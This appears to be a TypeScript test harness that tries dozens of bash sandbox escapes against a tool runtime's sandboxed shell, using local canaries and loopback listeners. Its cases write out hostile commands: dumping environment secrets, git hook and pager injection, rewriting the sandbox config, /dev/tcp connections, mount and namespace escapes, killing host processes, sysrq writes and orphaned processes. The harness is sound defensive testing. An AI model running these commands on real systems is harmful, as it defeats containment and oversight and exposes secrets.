/**
 * Attacks on the sandbox with bash as the attacker's shell, each with a twin that must succeed, sent as calls of
 * shell_exec in sandboxed mode. Runs in a process of its own, as root or as a user without privileges, in a folder that
 * user owns. Started by bash-attacks.deep.test.ts; prints one line of JSON: what each line answered, and what changed.
 */
import { type ChildProcess, execFile, execFileSync, spawn } from 'node:child_process';
import { createHash } from 'node:crypto';
import { createSocket } from 'node:dgram';
import { lstatSync, mkdirSync, readdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import { type AddressInfo, createServer } from 'node:net';
import { join } from 'node:path';
import { setImmediate as nextTurn } from 'node:timers/promises';
import type { JsonObject } from '@tool-runtime/protocol';
import koffi from 'koffi';
import { createSpawner } from '../src/platform/processes/spawner.ts';
import { createRuntime } from '../src/runtime.ts';
import { processesWith } from './processes-with.ts';

const [base = '', user = '', network = ''] = process.argv.slice(2);
const [home, outside, workspace, state] = ['home', 'outside', 'workspace', 'state'].map((name) => join(base, name)) as [
  string,
  string,
  string,
  string,
];

const PR_SET_DUMPABLE = 4;
// Loads the native code while that is still allowed.
createSpawner({ backend: 'native' });
if (process.getuid?.() === 0 && Number(user) !== 0) {
  process.setgroups?.([]);
  process.setgid?.(Number(user));
  process.setuid?.(Number(user));
  // The kernel keeps the descriptors of a process that gave up root from other processes; of one that never was root not.
  koffi.load(null).func('int prctl(int, long, long, long, long)')(PR_SET_DUMPABLE, 1, 0, 0, 0);
}
process.env['HOME'] = home;
process.env['ATTACK_TOKEN'] = 'CANARY-token';
for (const folder of [home, outside, workspace]) mkdirSync(folder);
mkdirSync(state, { mode: 0o700 });
for (const folder of [home, outside, state]) writeFileSync(join(folder, 'canary'), 'CANARY');
const git = (...words: readonly string[]) => execFileSync('git', words, { cwd: workspace, stdio: 'ignore' });
git('init', '-q', '-b', 'main');
const REGISTRY = 'version: 1\nshell: {mode: sandboxed}\n';
for (const name of ['tool-runtime.yaml', 'tool-runtime.lock']) writeFileSync(join(workspace, name), REGISTRY);
writeFileSync(join(workspace, 'file'), 'inside\n');

const runtime = await createRuntime({ workspace, state, registry: join(workspace, 'tool-runtime.yaml') });
const session = await runtime.openSession({});

interface Ran {
  readonly code: number | null;
  readonly stdout: string;
  readonly stdout_bytes: number;
}

async function call(cmd: string, more: JsonObject = {}): Promise<Ran | string> {
  const response = await session.call('shell_exec', { cmd, ...more });
  return response.ok ? (response.data as unknown as Ran) : String(response.errors[0]?.code);
}

/** `refused` when the line failed; otherwise what it printed. */
async function answer(cmd: string, more: JsonObject = {}): Promise<string> {
  const ran = await call(cmd, more);
  if (typeof ran === 'string') return ran;
  return ran.code === 0 ? `ok ${ran.stdout}`.trim() : 'refused';
}

/** The same line outside of any sandbox: shows that it would work. */
function bare(line: string): Promise<string> {
  return new Promise((resolve) => {
    execFile('bash', ['-c', line], { cwd: workspace }, (problem, stdout) =>
      resolve(problem === null ? `ok ${stdout}`.trim() : 'refused'),
    );
  });
}

/** Content, kind and mode of everything below a folder. */
function digestOf(folder: string): string {
  const hash = createHash('sha256');
  const visit = (path: string): void => {
    const stat = lstatSync(path);
    hash.update(`${path} ${stat.mode} `);
    if (stat.isSymbolicLink()) hash.update(readlinkSync(path));
    else if (stat.isFile()) hash.update(readFileSync(path));
    else if (stat.isDirectory()) for (const name of readdirSync(path).sort()) visit(join(path, name));
  };
  visit(folder);
  return hash.digest('hex');
}

const server = createServer((socket) => socket.on('error', () => {}).end('REACHED')).listen({
  host: '127.0.0.1',
  port: 0,
});
await new Promise((resolve) => server.once('listening', resolve));
const { port } = server.address() as AddressInfo;
const sockets = [join(outside, 'host.sock'), join(workspace, 'host.sock'), `\0${base}`].map((path) =>
  createServer((socket) => socket.on('error', () => {}).end('REACHED')).listen(path),
);
await Promise.all(sockets.map((each) => new Promise((resolve) => each.once('listening', resolve))));
const GUARDED = [
  home,
  outside,
  ...['.git', 'tool-runtime.yaml', 'tool-runtime.lock'].map((name) => join(workspace, name)),
];
const before = GUARDED.map(digestOf);

const datagrams: string[] = [];
const udp = createSocket('udp4', (message) => void datagrams.push(String(message)));
await new Promise<void>((resolve) => udp.bind(0, '127.0.0.1', resolve));
const victim: ChildProcess = spawn('/bin/sleep', ['1000'], { stdio: 'ignore' });
const marker = `bash-attack-${process.pid}`;

const PERL_UNIX = `perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0); exit !connect(S, pack("Sa*", 1, $ARGV[0]))'`;
const PERL_ABSTRACT = `perl -MSocket -e 'socket(S, PF_UNIX, SOCK_STREAM, 0); exit !connect(S, pack("Sxa*", 1, $ARGV[0]))'`;
const PERL_OWN = `perl -MSocket -e 'socket(L, PF_INET, SOCK_STREAM, 0); bind(L, sockaddr_in(4000, INADDR_LOOPBACK)); listen(L, 1); $| = 1; print "up\\n"; accept(C, L)'`;
const PTRACE = process.arch === 'x64' ? 101 : 117;
const perlTrace = (pid: string) => `perl -e 'exit !(syscall(${PTRACE}, 16, $ARGV[0]+0, 0, 0) == 0)' ${pid}`;

/** Processes that left their parent, their session and their output, and ignore signals. */
const LEFT: Readonly<Record<string, string>> = {
  background: `(exec -a ${marker} sleep 1000) & echo started`,
  setsid: `setsid bash -c 'trap "" TERM HUP INT; exec -a ${marker} sleep 1000' >/dev/null 2>&1 & sleep 0.2; echo started`,
  nohup: `nohup bash -c 'exec -a ${marker} sleep 1000' >/dev/null 2>&1 & disown -a; echo started`,
  'double fork': `( ( (exec -a ${marker} sleep 1000) & ) & ) >/dev/null 2>&1; sleep 0.2; echo started`,
  coprocess: `coproc C { exec -a ${marker} sleep 1000; }; echo started`,
  'two hundred': `for i in {1..200}; do (exec -a ${marker} sleep 1000) & done; echo started`,
};

async function leftBy(line: string): Promise<string> {
  const said = await answer(line);
  return `${said}, ${processesWith(marker).length} left`;
}

async function flood(): Promise<string> {
  const ran = await call('yes | head -c 50000000');
  return typeof ran === 'string' ? ran : `${ran.stdout_bytes} ${ran.stdout.length < 6_000_000}`;
}

async function endless(): Promise<string> {
  const line = `trap "" TERM INT HUP; (exec -a ${marker} sleep 1000) & while :; do sleep 0.1; done`;
  return `${await answer(line, { timeout_ms: 1500 })}, ${processesWith(marker).length} left`;
}

const TCP = `exec 3<>/dev/tcp/127.0.0.1/${port} && cat <&3`;
const UDP = `echo -n CANARY > /dev/udp/127.0.0.1/${udp.address().port}`;

const CASES: Record<string, () => Promise<string>> = {
  'write outside': () => answer(`echo x > ${outside}/made`),
  'write inside': () => answer('echo x > made && cat made'),
  'append to a canary': () => answer(`echo x >> ${outside}/canary`),
  'read outside': () => answer(`cat ${home}/canary ${outside}/canary`),
  'read inside': () => answer('cat < file'),
  'list outside': () => answer(`ls -A ${outside} || compgen -G "${outside}/*"`),
  'list inside': () => answer('echo f*'),
  'write to the system': () => answer('echo x > /usr/made || echo x > /etc/made || echo x > /made || touch /bin/made'),
  'write to temporary and home folder': () => answer('echo x > /tmp/made && echo x > ~/made'),
  'through a link': () => answer(`ln -sfn ${outside} link; echo x > link/made || cat link/canary`),
  'through a link inside': () => answer('ln -sfn . here; cat here/file'),
  'through a link to a file': () => answer(`ln -sf ${outside}/canary name; echo x > name; cat name | grep CANARY`),
  'through a hard link': () => answer(`ln ${outside}/canary hard`),
  'through a hard link inside': () => answer('ln file twin && cat twin'),
  'climb by dots': () => answer('cat ../outside/canary || (cd .. && cd outside && cat canary)'),
  'the root of another process': () =>
    answer(`cat /proc/1/root${outside}/canary || cat /proc/$PPID/root${outside}/canary`),
  'its own root': () => answer(`cat /proc/self/root${outside}/canary || cat /proc/self/cwd/../outside/canary`),
  'open descriptors': () =>
    answer('for fd in /proc/self/fd/*; do readlink "$fd"; done | grep -v "^/dev/null$" | grep -c "^/" || true'),
  'write to .git': () => answer('echo x >> .git/config || echo x > .git/HEAD || touch .git/made'),
  'plant a hook': () => answer('mkdir -p .git/hooks && printf "#!/bin/sh\\n" > .git/hooks/pre-commit'),
  'move .git away': () => answer('mv .git g || rm -rf .git/refs || rm -rf .git'),
  'set a git setting': () =>
    answer('git config core.pager "sh -c id" || git config --global x.y z && cat .git/config | grep pager'),
  'commit with git': () => answer('git add file && git commit -m x'),
  'read with git': () => answer('git status --short | grep -c file'),
  'unmount what guards .git': () => answer('umount .git || umount -l .git || mount -o remount,rw .git'),
  'write to the registry': () => answer('echo "isolation: none" >> tool-runtime.yaml || > tool-runtime.yaml'),
  'replace the registry': () =>
    answer('echo x > new; mv -f new tool-runtime.yaml || ln -sf file tool-runtime.yaml || rm -f tool-runtime.yaml'),
  'write to the lock': () => answer('echo x > tool-runtime.lock || rm -f tool-runtime.lock'),
  'read the registry': () => answer('head -n 1 tool-runtime.yaml'),
  'read the state folder': () => answer(`cat ${state}/canary || ls ${state}`),
  'write to the state folder': () => answer(`echo x > ${state}/made`),
  'secrets in the environment': () =>
    answer(
      'env; cat /proc/[0-9]*/environ 2>/dev/null | tr "\\0" "\\n"; (env; cat /proc/*/environ) 2>/dev/null | grep -a CANARY',
    ),
  'what env gave': () => answer('echo "$GIVEN"', { env: { GIVEN: 'given' } }),
  'TCP to the host': () => answer(TCP),
  'TCP to the host, no sandbox': () => bare(TCP),
  'TCP to its own loopback': () =>
    answer(`coproc L { ${PERL_OWN}; }; read -u "\${L[0]}" up; exec 3<>/dev/tcp/127.0.0.1/4000 && echo $up`),
  'UDP to the host': async () => {
    await answer(UDP);
    await bare(UDP.replace('CANARY', 'twin'));
    while (datagrams.length === 0) await nextTurn();
    return datagrams.join();
  },
  'a name of the internet': () => answer('getent hosts example.org || (exec 3<>/dev/tcp/1.1.1.1/53)'),
  'a name of its own': () => answer('getent hosts localhost > /dev/null'),
  'a socket file outside': () => answer(`${PERL_UNIX} ${outside}/host.sock`),
  'a socket file outside, no sandbox': () => bare(`${PERL_UNIX} ${outside}/host.sock`),
  // Part of the workspace like any file: a listener there is reached.
  'a socket file in the workspace': () => answer(`${PERL_UNIX} host.sock`),
  'an abstract socket': () => answer(`${PERL_ABSTRACT} ${base}`),
  'an abstract socket, no sandbox': () => bare(`${PERL_ABSTRACT} ${base}`),
  'signal a process of the host': () => answer(`kill -0 ${victim.pid} || kill -9 ${victim.pid}`),
  'signal a process of the host, no sandbox': () => bare(`kill -0 ${victim.pid}`),
  'signal itself': () => answer('kill -0 $$'),
  'trace a process of the host': () => answer(perlTrace(String(victim.pid))),
  'see processes': () => answer('set -- /proc/[0-9]*; [ $# -lt 10 ] && echo few'),
  'mount something': () => answer('mount -t tmpfs none /tmp || mount --bind / /tmp || mount -o remount,rw /usr'),
  'make a namespace': () => answer('unshare -U true || unshare -m true || unshare -n true || nsenter -t 1 -m true'),
  'change the root': () => answer('chroot / true || chroot . true'),
  'make a device': () => answer('mknod disk b 8 0 || mknod mem c 1 1'),
  'use a device': () => answer('echo x > /dev/null && head -c 4 /dev/zero | wc -c'),
  'read memory or disks': () =>
    answer('cat /dev/mem || cat /dev/sda || cat /dev/kmsg || [ -n "$(head -c 1 /proc/kcore)" ]'),
  'write a setting of the kernel': () => answer('echo 1 > /proc/sys/kernel/sysrq || echo b > /proc/sysrq-trigger'),
  'have capabilities': () => answer('grep -E "^Cap(Eff|Bnd|Prm|Inh|Amb)" /proc/self/status | grep -vE "0{16}$"'),
  'gain privileges': () => answer('grep -q "NoNewPrivs:.*1" /proc/self/status && echo never'),
  'write to a terminal': () => answer('echo x > /dev/tty'),
  limits: () =>
    answer('[ "$(ulimit -c)" = 0 ] && [ "$(ulimit -n)" -le 4096 ] && [ "$(ulimit -u)" -le 1024 ] && echo set'),
  'raise a limit': () => answer('ulimit -n 1000000 || ulimit -u unlimited'),
  'print without end': flood,
  'run without end': endless,
  ...Object.fromEntries(Object.entries(LEFT).map(([name, line]) => [`left behind: ${name}`, () => leftBy(line)])),
};

// Commands of a session share a network while a job runs in it.
if (network === 'shared') await call('sleep 1000', { yield_after_ms: 100 });
const NETWORK = 'readlink /proc/self/ns/net';
const isShared = new Set([await answer(NETWORK), await answer(NETWORK)]).size === 1;
const report: Record<string, string> = {};
for (const [name, attempt] of Object.entries(CASES)) report[name] = await attempt();
const changed = GUARDED.filter((path, index) => digestOf(path) !== before[index]).map((path) =>
  path.slice(base.length),
);
const isVictimAlive = victim.exitCode === null && victim.signalCode === null;
await runtime.close();
victim.kill('SIGKILL');
for (const each of [server, ...sockets, udp]) each.close();
const canaryStays = readFileSync(join(state, 'canary'), 'utf8') === 'CANARY' && !readdirSync(state).includes('made');
process.stdout.write(
  JSON.stringify({ uid: process.getuid?.(), isShared, report, changed, isVictimAlive, canaryStays }),
);
